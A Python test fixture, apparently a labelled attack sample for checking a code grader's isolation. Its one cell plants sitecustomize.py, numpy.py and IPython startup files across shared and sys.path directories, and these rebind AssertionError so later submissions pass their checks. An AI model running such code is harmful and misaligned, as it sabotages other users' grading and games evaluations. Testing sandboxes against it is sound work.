"""Things are left behind for the next submission: modules, start files, variables, a cache."""

HARMLESS = False
FLAW, TRICK = "V1", "injection"
CELLS = {
    "count": """import pathlib, sys
code = "import builtins; builtins.AssertionError = BaseException"
places = ["/tmp", "/dev/shm", "/home/student", "/course", "/course/course_utils/__pycache__"]
for place in [*places, *sys.path]:
    for name in ("numpy.py", "sitecustomize.py", "ipython/profile_default/startup/a.py"):
        try:
            path = pathlib.Path(place, name)
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(code)
        except OSError:
            pass
def count(n): return sum(1 for p in map(pathlib.Path, places) if (p / "numpy.py").exists())"""
}
